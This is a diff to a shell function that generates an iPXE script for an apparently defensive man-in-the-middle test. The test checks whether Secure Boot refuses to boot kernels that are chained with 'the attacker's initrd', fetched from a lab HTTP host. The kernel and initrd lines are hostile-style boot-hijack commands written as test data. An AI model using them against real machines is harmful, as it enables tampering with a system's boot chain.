@@ -78,14 +78,17 @@ mitm_script() {
     i=$((i + 1))
     echo "imgfree"
     echo "echo epoxy-mitm: try $i: chain $k with the attacker's initrd"
-    echo "kernel --name k$i http://10.0.2.100:8080/mitm/k/$k initrd=mitm.cpio console=ttyS0 rdinit=/init || goto next$i"
-    echo "initrd --name mitm.cpio http://10.0.2.100:8080/mitm/mitm.cpio || goto next$i"
-    echo "boot k$i || echo epoxy-mitm: try $i refused"
-    echo ":next$i"
+    # iPXE's kernel command asks the firmware's LoadImage already (EFI
+    # image probe): a Secure Boot refusal shows as "Could not select"
+    echo "kernel --name k$i http://10.0.2.100:8080/mitm/k/$k initrd=mitm.cpio console=ttyS0 rdinit=/init || goto refused$i"
+    echo "initrd --name mitm.cpio http://10.0.2.100:8080/mitm/mitm.cpio || goto refused$i"
+    echo "boot k$i || goto refused$i"
+    echo ":refused$i"
+    echo "echo epoxy-mitm: try $i refused"
   done
+  # Debian's iPXE has no poweroff: hold here, the runner stops QEMU
   echo 'echo epoxy-mitm: every kernel refused'
-  echo 'sleep 2'
-  echo 'poweroff'
+  echo 'sleep 600'
 }
 
 mitm_conf() {
